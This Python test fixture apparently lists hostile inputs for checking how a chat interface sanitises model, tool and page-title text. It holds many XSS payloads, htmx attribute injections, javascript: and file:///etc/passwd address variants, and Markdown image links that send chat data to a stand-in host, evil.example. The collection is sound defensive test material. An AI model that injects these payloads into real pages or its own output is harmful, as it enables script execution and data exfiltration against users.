"""Texts that try to become more than text: what a model, a tool, a title or a person may write.

Collected after OWASP's filter evasion list, the reports on Markdown in chat pages (EchoLeak,
CVE-2025-32711, among them), mutation attacks on sanitisers, and htmx's own attributes.
"""

from __future__ import annotations

from itertools import product

_TAGS = """
<script>owned()</script>
<script src=https://evil.example/x.js></script>
<ScRiPt>owned()</sCrIpT>
<scr<script>ipt>owned()</script>
<script\x0c>owned()</script>
<script/src=//evil.example></script>
<img src=x onerror=owned()>
<img src=https://evil.example/p.png>
<img/src="x"/onerror="owned()">
<img src=`x` onerror=owned()>
<img srcset="https://evil.example/p.png 1x">
<image href="https://evil.example/p.png">
<picture><source srcset=https://evil.example/p.png></picture>
<svg onload=owned()></svg>
<svg><script>owned()</script></svg>
<svg><a xlink:href="javascript:owned()"><text y=20>x</text></a></svg>
<svg><animate onbegin=owned() attributeName=x></svg>
<svg><use href="https://evil.example/x.svg#x"></use></svg>
<svg><foreignObject><img src=x onerror=owned()></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=owned()></style></table></math>
<math><maction actiontype="statusline" xlink:href="javascript:owned()">x</maction></math>
<math href="javascript:owned()">x</math>
<iframe src="javascript:owned()"></iframe>
<iframe srcdoc="<script>parent.owned()</script>"></iframe>
<object data="javascript:owned()"></object>
<embed src="javascript:owned()">
<applet code=x></applet>
<frameset onload=owned()></frameset>
<body onload=owned()>
<html onclick=owned()>
<head><base href="https://evil.example/"></head>
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=prefetch href="https://evil.example/x">
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>body{display:none}</style>
<style>@import 'https://evil.example/x.css';</style>
<div style="background:url(https://evil.example/p.png)">x</div>
<div style="position:fixed;inset:0">x</div>
<p style="width:expression(owned())">x</p>
<form action="https://evil.example"><input name=p><button>Sign in</button></form>
<form id="composer" action="https://evil.example"></form>
<input autofocus onfocus=owned()>
<button formaction="javascript:owned()">x</button>
<button form=composer>x</button>
<textarea autofocus onfocus=owned()></textarea>
<select autofocus onfocus=owned()></select>
<keygen autofocus onfocus=owned()>
<details open ontoggle=owned()><summary>x</summary></details>
<video src=x onerror=owned()></video>
<video poster=https://evil.example/p.png></video>
<audio src=https://evil.example/a.mp3 autoplay></audio>
<track src=https://evil.example/t.vtt>
<marquee onstart=owned()>x</marquee>
<bgsound src=https://evil.example/a.mp3>
<isindex action=javascript:owned()>
<a href="javascript:owned()">x</a>
<a href="https://evil.example" ping="https://evil.example/ping">x</a>
<a href=# onclick=owned()>x</a>
<a href="https://evil.example" download>x</a>
<area href="javascript:owned()">
<table background="https://evil.example/p.png"><tr><td>x</table>
<td background=https://evil.example/p.png>
<template><script>owned()</script></template>
<noscript><p title="</noscript><img src=x onerror=owned()>"></noscript>
<xmp><script>owned()</script></xmp>
<plaintext><script>owned()</script>
<listing><img src=x onerror=owned()></listing>
<title><img src=x onerror=owned()></title>
<!--><script>owned()</script>-->
<!-- --!><script>owned()</script> -->
<![CDATA[<script>owned()</script>]]>
<?xml-stylesheet href="https://evil.example/x.xsl"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example">]>
</div></main></body><script>owned()</script>
</article><article class="message" id="message-1">x</article>
</details></div><div id="composer">gone</div>
<i hx-swap-oob="innerHTML:body">gone</i>
<div id="composer" hx-swap-oob="true">gone</div>
<div id="messages" hx-swap-oob="delete"></div>
<i id="announcer" hx-swap-oob="innerHTML">hear me</i>
<div hx-get="/c/1/" hx-trigger="load">x</div>
<div data-hx-get="https://evil.example" data-hx-trigger="load">x</div>
<div hx-on:click="owned()">x</div>
<div hx-on::load="owned()">x</div>
<div hx-vals="js:owned()">x</div>
<div hx-ext="ws" ws-connect="wss://evil.example">x</div>
<div hx-post="/c/1/delete/" hx-trigger="load">x</div>
<meta name="htmx-config" content='{"allowEval":true}'>
<div class="message-status" data-running data-generation="1" data-seq="0" data-held="0"></div>
<slot name=x></slot><portal src=https://evil.example></portal>
<dialog open>Your session has ended</dialog>
<x-math>0</x-math>
<span class="k">x</span>
<p id="main" tabindex="1" accesskey="x" contenteditable>x</p>
"""

_ADDRESSES = [
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\tscript:owned()",
    "&#106;avascript:owned()",
    "&#x6A;avascript&colon;owned()",
    "%6aavascript:owned()",
    "\x01javascript:owned()",
    " javascript:owned()",
    "javascript&#58;owned()",
    "vbscript:owned()",
    "data:text/html,<script>owned()</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "about:blank",
    "ws://evil.example",
    "ftp://evil.example",
    "//evil.example",
    "/c/1/delete/",
    "?x",
    "#composer",
    "\\\\evil.example",
    "https:evil.example",
    "intent://evil.example#Intent;end",
]
HOSTILE_ADDRESSES = [
    *_ADDRESSES,
    "https://",
    "https:///evil.example",
    "https://evil.example\\@good.example/",
    "https://evil.example/\x00",
    "https://evil.example/\ufffd",
    "https://evil.example/ onclick=owned()",
    "https://evil.example/\n",
    "\thttps://evil.example",
    "https://evil.example/\u00a0",
    "https://[evil.example",
    "https://%65vil.example/",
    "https://evil<script>.example/",
    "https://" + "e" * 3_000,
]
"""Addresses that no link of a search or a citation may have."""

HOSTILE_TITLES = [
    "<script>owned()</script>",
    '"><img src=x onerror=owned()>',
    "' onmouseover='owned()",
    "<hx-partial hx-swap-oob='delete:#composer'></hx-partial>",
    "<head><title>owned</title></head>",
    '</li></ol></div><i hx-swap-oob="innerHTML:body">gone</i>',
    "[x](javascript:owned())",
    "\u202eelpmaxe.doog\u202c",
    "\u2066\u2067isolated\u2069",
    "two\nlines\r\nand\u2028more",
    "\x00\x1b[31mred\x07",
    "\ufeff\u200b",
    "\U000f0000\U000f0001",
    "&lt;b&gt; &amp; &#60;",
    "{{ request.user.password }}{% csrf_token %}",
    "x" * 100_000,
    "👩\u200d👩\u200d👧" * 500,
]
"""Names that a page on the web or a document may have."""

_LINKS = ["[x]({})", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}\n"]

_OTHERS = [
    '[x](https://a.example "onmouseover=owned()")',
    '[x](https://a.example "\\"onmouseover=owned()//")',
    '[x](https://a.example "<hx-x onmouseover=owned() y>")',
    "[x](https://a.example '<head>') </head>",
    "<https://a.example/<hx-x>>",
    "[x](https://a.example'onmouseover='owned())",
    "[<img src=x onerror=owned()>](https://a.example)",
    "![<script>owned()</script>](https://evil.example/p.png)",
    "![x](https://evil.example/p.png?secret=chat)",
    "[![x](https://evil.example/p.png)](https://a.example)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "https://a.example/<script>owned()</script>",
    'https://a.example/"onmouseover="owned()',
    "`<script>owned()</script>`",
    "```html\n<script>owned()</script>\n```",
    '```x" onmouseover="owned()\n<b>\n```',
    "```<script>owned()</script>\n<b>\n```",
    "~~~javascript:owned()\nx\n~~~",
    "    <script>owned()</script>",
    "| <script>owned()</script> | b |\n|---|---|\n| <img src=x onerror=owned()> | x |",
    '| a |\n|:-:" onclick=owned()|\n| x |',
    "> <script>owned()</script>",
    "- <script>owned()</script>",
    "1. <img src=x onerror=owned()>",
    "- [x] <img src=x onerror=owned()>",
    "# <script>owned()</script>",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;script&#62;owned()&#60;/script&#62;",
    "\\<script>owned()</script>",
    "<\x00script>owned()</script>",
    "\u202e<script>owned()</script>",
    "\ufeff<script>owned()</script>",
    "＜script＞owned()＜/script＞",
    "$\\href{javascript:owned()}{x}$",
    "$\\text{<script>owned()</script>}$",
    "$\\text{</math><img src=x onerror=owned()>}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{message}{x}$",
    "$\\id{composer}{x}$",
    "$\\includegraphics{https://evil.example/p.png}$",
    "$\\mathchoice{<b>}{}{}{}$",
    "$$\\unicode{x3c}script\\unicode{x3e}$$",
    "\\(\\text{<img src=x onerror=owned()>}\\)",
    "\\[\\text{&lt;script&gt;}\\]",
    "<x-math>0</x-math> $x$",
    "[^1]\n\n[^1]: <script>owned()</script>",
    "{{ request.user.password }}",
    "{% csrf_token %}",
    "${owned()}",
    "<a href='https://a.example",
    "<" * 60,
    "[" * 60,
    "![" * 60,
    "> " * 60,
    "*" * 60,
]

HOSTILE = [
    *_TAGS.strip().split("\n"),
    *(link.format(address) for link, address in product(_LINKS, _ADDRESSES)),
    *_OTHERS,
]

HOSTILE_TITLES_AND_TEXTS = list(dict.fromkeys([*HOSTILE_TITLES, *HOSTILE]))
